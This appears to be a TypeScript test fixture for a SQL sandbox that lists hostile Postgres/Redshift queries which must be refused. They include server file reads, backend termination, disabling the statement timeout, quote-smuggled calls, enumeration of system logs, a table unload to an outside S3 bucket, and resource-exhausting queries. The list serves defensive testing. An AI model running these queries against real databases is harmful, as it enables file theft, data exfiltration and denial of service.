import type { Target } from '../../attack/attacks.ts'

/** Scalars that must have no answer, by what the documentation says of such functions. */
export const scalars = ({ canary, folder }: Target): string[] => [
  `select pg_sleep(1)`,
  `select "pg_sleep"(1)`,
  `select pg_catalog . pg_sleep(1)`,
  `select pg_terminate_backend(1)`,
  `select pg_cancel_backend(1)`,
  `select pg_backend_pid()`,
  `select pg_read_file('${canary}')`,
  `select pg_ls_dir('${folder}')`,
  `select pg_last_query_id()`,
  `select set_config('statement_timeout', '0', false)`,
  `select current_setting('data_directory')`,
  `select nextval('counter')`,
  `select 1 from victim for update`,
  `select 1 into stolen from victim`,
  `select count(*) from svv_tables`,
  `select count(*) from svl_qlog`,
  `select count(*) from stv_sessions`,
  `select count(*) from stl_query`,
  `select count(*) from sys_query_history`,
  `select count(*) from information_schema.tables`,
  `select usename from pg_user`,
  String.raw`select '\' || set_config('statement_timeout', '0', false) || '\'`,
  String.raw`select "\" || current_setting('data_directory') || "\"`,
  `unload ('select * from victim') to 's3://elsewhere/' iam_role default`,
  `copy victim from 's3://elsewhere/' iam_role default`,
  `call anything()`,
  `set query_group to 'mine'`,
  `vacuum victim`,
]

/** Work without end; each may be refused, run out of time or memory, or be cut short by the engine itself. */
export const slow: string[] = [
  'exists (with recursive w (n) as (select 1 union all select n + 1 from w) select 1 from w where n < 0)',
  "length(repeat('x', 2000000000)) = 1",
  '(select count(*) from victim a, victim b, (select 1 as n from victim c, victim d, victim e) as f where a.id + b.id = -1) = 1',
]
